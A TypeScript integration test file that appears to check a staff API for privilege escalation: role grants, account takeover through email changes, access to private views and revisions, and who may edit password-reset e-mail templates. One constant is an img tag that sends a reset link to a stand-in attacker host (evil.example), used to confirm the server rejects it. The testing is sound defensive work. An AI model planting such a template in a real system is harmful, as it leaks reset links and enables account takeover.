import { newId } from '@quittance/kernel';
import {
  startStaffApi,
  type StaffClient,
  type TestStaffApi,
} from '../../../../test/support/test-api.js';
import { testDatabase, type TestDatabase } from '../../../../test/support/test-database.js';
import { bodyOf, memberWith, newRole, refusal } from './members.js';
import { done, made } from '../objects/objects-support.js';

let t: TestDatabase;
let api: TestStaffApi;
let admin: StaffClient;
beforeAll(async () => {
  t = await testDatabase();
  api = await startStaffApi(t);
  admin = api.admin;
});
afterAll(async () => {
  await api?.close();
  await t?.close();
});

const REFUSED = [403, 'administrator_required'];
const NO_GRANT = [403, 'grant_required'];
const USERS = ['view', 'create', 'update'];

describe('somebody who manages roles, and is no administrator', () => {
  test('gives no role that holds a grant, neither to themselves nor to others', async () => {
    const manager = await memberWith(api, {
      matrix: { users: USERS, leads: ['view'] },
      grants: ['roles'],
    });
    const strong = await newRole(admin, { grants: ['customization'] });
    const weak = await newRole(admin, { matrix: { leads: ['view'] } });
    const person = { email: `${newId()}@example.com`, name: 'New' };
    const self = `/users/${manager.userId}`;
    const { roles } = bodyOf<{ roles: { id: string }[] }>(await admin.call('GET', self));
    const own = roles.map(({ id }) => id);
    const asked = [
      await manager.call('PATCH', self, { body: { roleIds: [...own, strong] } }),
      await manager.call('PATCH', self, { body: { roleIds: [] } }),
      await manager.call('POST', '/users', { body: { ...person, roleIds: [strong] } }),
    ];
    expect(asked.map(refusal)).toEqual(asked.map(() => REFUSED));
    const given = await manager.call('PATCH', self, { body: { roleIds: [...own, weak] } });
    expect(given.status).toBe(200);
  });

  test('becomes nobody who holds one, by invitation or by another address', async () => {
    const manager = await memberWith(api, { matrix: { users: USERS }, grants: ['roles'] });
    const shaper = await memberWith(api, { grants: ['customization'] });
    const path = `/users/${shaper.userId}`;
    const email = `${newId()}@example.com`;
    const asked = [
      await manager.call('POST', `${path}/invite`),
      await manager.call('PATCH', path, { body: { email } }),
    ];
    expect(asked.map(refusal)).toEqual([REFUSED, REFUSED]);
  });
});

describe('somebody who changes users, and manages no roles', () => {
  test('takes over no other account by its address, but may mend their own', async () => {
    const clerk = await memberWith(api, { matrix: { users: USERS } });
    const other = await memberWith(api, { matrix: { invoices: ['delete'] } });
    const email = () => ({ body: { email: `${newId()}@example.com` } });
    const theirs = await clerk.call('PATCH', `/users/${other.userId}`, email());
    expect(refusal(theirs)).toEqual(NO_GRANT);
    expect((await clerk.call('PATCH', `/users/${clerk.userId}`, email())).status).toBe(200);
  });

  test('keeps nobody out who holds a grant, and lets nobody guess at such an account', async () => {
    const clerk = await memberWith(api, { matrix: { users: USERS } });
    const shaper = await memberWith(api, { grants: ['customization', 'roles'] });
    const other = await memberWith(api, { matrix: { leads: ['view'] } });
    const doAll = async (who: StaffClient) => [
      await clerk.call('POST', `/users/${who.userId}/unlock`),
      await clerk.call('POST', `/users/${who.userId}/sign-out`),
      await clerk.call('POST', `/users/${who.userId}/deactivate`),
      await clerk.call('PATCH', `/users/${who.userId}`, { body: { active: false } }),
    ];
    expect((await doAll(shaper)).map(refusal)).toEqual(Array(4).fill(REFUSED));
    expect((await doAll(other)).map(({ status }) => status)).toEqual([200, 200, 200, 200]);
    await admin.call('POST', `/users/${shaper.userId}/deactivate`);
    const again = await clerk.call('PATCH', `/users/${shaper.userId}`, { body: { active: true } });
    expect(refusal(again)).toEqual(REFUSED);
  });

  test('puts others into a team, not themselves', async () => {
    const clerk = await memberWith(api, { matrix: { users: USERS } });
    const other = await memberWith(api, {});
    const body = { team: 'north' };
    const [own, theirs] = [
      await clerk.call('PATCH', `/users/${clerk.userId}`, { body }),
      await clerk.call('PATCH', `/users/${other.userId}`, { body }),
    ];
    expect([refusal(own), theirs.status]).toEqual([NO_GRANT, 200]);
  });

  test('takes nobody into their own team, whose records they may reach', async () => {
    const clerk = await memberWith(api, { matrix: { users: USERS } });
    const other = await memberWith(api, {});
    const setTeam = (by: StaffClient, who: StaffClient, team: string | null) =>
      by.call('PATCH', `/users/${who.userId}`, { body: { team } });
    await setTeam(admin, clerk, 'north');
    const taken = await setTeam(clerk, other, 'north');
    await setTeam(admin, other, 'north');
    const [kept, left] = [
      await clerk.call('PATCH', `/users/${other.userId}`, { body: { team: 'north', name: 'Ned' } }),
      await setTeam(clerk, other, null),
    ];
    expect([refusal(taken), kept.status, left.status]).toEqual([NO_GRANT, 200, 200]);
  });
});

describe('somebody who customizes, and has no other right', () => {
  const rule = {
    object: 'lead',
    name: 'Escape',
    active: true,
    position: 1,
    trigger: 'create',
    field: null,
    condition: null,
    actions: [
      { kind: 'create_task', subject: 'x', description: null, dueInDays: null, owner: null },
    ],
  };
  const DENIED = expect.arrayContaining([expect.objectContaining({ code: 'permission_denied' })]);

  test('neither reads nor deletes what others keep for themselves', async () => {
    const owner = await memberWith(api, { matrix: { leads: ['view'] } });
    const shaper = await memberWith(api, { grants: ['customization'] });
    const filter = { and: [{ field: 'email', op: 'eq', value: 'whistle@example.com' }] };
    const view = { object: 'lead', name: `Mine ${newId()}`, filter };
    const { id } = await made(owner, '/views', view);
    const open = { object: 'lead', name: `Ours ${newId()}`, visibility: 'public' };
    const { id: ours } = await made(owner, '/views', open);
    const revisionOf = async (by: StaffClient, subjectId: unknown) => {
      const is = encodeURIComponent(
        JSON.stringify({ field: 'subjectId', op: 'eq', value: subjectId }),
      );
      const list = await done(by, 'GET', `/customization/revisions?filter=${is}&sort=madeAt`);
      return (list as unknown as { data: { id: string }[] }).data.map((each) => each.id);
    };
    const store = await memberWith(api, {
      matrix: { leads: ['view'] },
      grants: ['customization'],
    });
    const kept = await made(store, '/views', { object: 'lead', name: `Kept ${newId()}`, filter });
    const [revision = ''] = await revisionOf(store, kept['id']);
    expect(await revisionOf(shaper, kept['id'])).toEqual([]);
    expect(await revisionOf(shaper, id)).toEqual([]);
    const path = `/customization/revisions/${revision}`;
    expect((await store.call('GET', path)).status).toBe(200);
    expect((await shaper.call('GET', path)).status).toBe(404);
    expect((await shaper.call('POST', `${path}/revert`)).status).toBe(404);
    const [first = ''] = await revisionOf(shaper, ours);
    const hide = { body: { visibility: 'private', filter } };
    expect((await owner.call('PATCH', `/views/${String(ours)}`, hide)).status).toBe(200);
    const back = await shaper.call('POST', `/customization/revisions/${first}/revert`);
    expect(refusal(back)).toEqual([409, 'revision_not_revertible']);
    expect(JSON.stringify(back.body)).not.toContain('whistle');
    const health = await shaper.call('GET', '/customization/view-health');
    const seen = JSON.stringify(health.body);
    for (const each of [id, kept['id'], ours]) expect(seen).not.toContain(String(each));
    expect((await owner.call('GET', `/views/${String(id)}`)).status).toBe(200);
  });

  test('brings none in with a set-up', async () => {
    const shaper = await memberWith(api, { grants: ['customization'] });
    const { format, version } = await done(admin, 'GET', '/customization/export');
    const body = { format, version, parts: { workflowRules: [rule] } };
    const refused = await shaper.call('POST', '/customization/import', { body });
    expect([refused.status, bodyOf(refused).errors]).toEqual([409, DENIED]);
    const taken = await admin.call('POST', '/customization/import', { body });
    expect(taken.status).toBe(200);
  });

  test('puts none back, nor takes one away by putting back', async () => {
    const shaper = await memberWith(api, { grants: ['customization'] });
    const made_ = await made(admin, '/workflows', {
      object: 'lead',
      name: 'Kept',
      trigger: 'create',
      actions: [{ kind: 'create_task', subject: 'x' }],
    });
    const filter = JSON.stringify({ field: 'subjectId', op: 'eq', value: made_.id });
    const path = `/customization/revisions?filter=${encodeURIComponent(filter)}`;
    const { data } = bodyOf<{ data: { id: string }[] }>(await shaper.call('GET', path));
    expect(data).toHaveLength(1);
    const undo = `/customization/revisions/${data[0]?.id}/revert`;
    const refused = await shaper.call('POST', undo);
    expect(refused).toMatchObject({
      status: 403,
      body: { code: 'permission_denied', resource: 'workflows', action: 'delete' },
    });
    expect((await admin.call('POST', undo)).status).toBe(200);
  });

  test('is shown no value of records that they may not see', async () => {
    const shaper = await memberWith(api, { grants: ['customization'] });
    const field = { name: 'hidden__c', type: 'text', label: 'Hidden' };
    await made(admin, '/customization/objects/lead/fields', field);
    for (const name of ['A', 'B']) await made(admin, '/leads', { name, hidden__c: 'Classified' });
    const path = '/customization/objects/lead/fields/hidden__c';
    const [theirs, whole] = await Promise.all(
      [shaper, admin].map((by) => by.call('PATCH', path, { body: { unique: true } })),
    );
    expect([theirs?.status, JSON.stringify(theirs?.body).includes('Classified')]).toEqual([
      409,
      false,
    ]);
    expect(JSON.stringify(whole?.body)).toContain('Classified');
  });
});

describe('somebody who writes the texts of e-mails', () => {
  const SECRET = ['USER_PASSWORD_RESET', 'USER_INVITED'];
  const LEAK = '<img src="https://evil.example/p?u={{ link | url_encode }}">';
  const texts = (html: string) => ({ subject: 'Hello', html, text: 'Hello' });

  test('does not say where the link goes that sets a password of somebody else', async () => {
    const writer = await memberWith(api, {
      matrix: { 'email-templates': ['view', 'update'] },
      grants: ['customization'],
    });
    for (const code of SECRET) {
      const path = `/email-templates/${code}`;
      const body = texts('<a href="{{ link }}">Set it</a>');
      expect(refusal(await writer.call('PUT', path, { body }))).toEqual(REFUSED);
      expect((await admin.call('PUT', path, { body })).status).toBe(200);
      expect((await writer.call('POST', `${path}/reset`)).status).toBe(200);
    }
    const { format, version } = await done(admin, 'GET', '/customization/export');
    const item = { ...texts('<b>Hello</b>'), language: null, active: true };
    const emailTemplates = SECRET.map((code) => ({ code, ...item }));
    const body = { format, version, parts: { emailTemplates } };
    const brought = await writer.call('POST', '/customization/import', { body });
    const errors = bodyOf<{ errors: { code: string }[] }>(brought).errors.map(({ code }) => code);
    expect([brought.status, errors]).toEqual([409, SECRET.map(() => 'administrator_required')]);
    const other = await writer.call('PUT', '/email-templates/INVOICE_SENT', { body: texts('x') });
    expect(other.status).toBe(200);
  });

  test('puts it nowhere but in an anchor or between words, administrators included', async () => {
    for (const code of SECRET) {
      const path = `/email-templates/${code}`;
      const asked = [
        await admin.call('PUT', path, { body: texts(LEAK) }),
        await admin.call('POST', `${path}/preview`, { body: texts(LEAK) }),
      ];
      for (const { status, body } of asked) {
        expect([status, body]).toMatchObject([422, { errors: [{ code: 'secret_link' }] }]);
      }
    }
  });
});
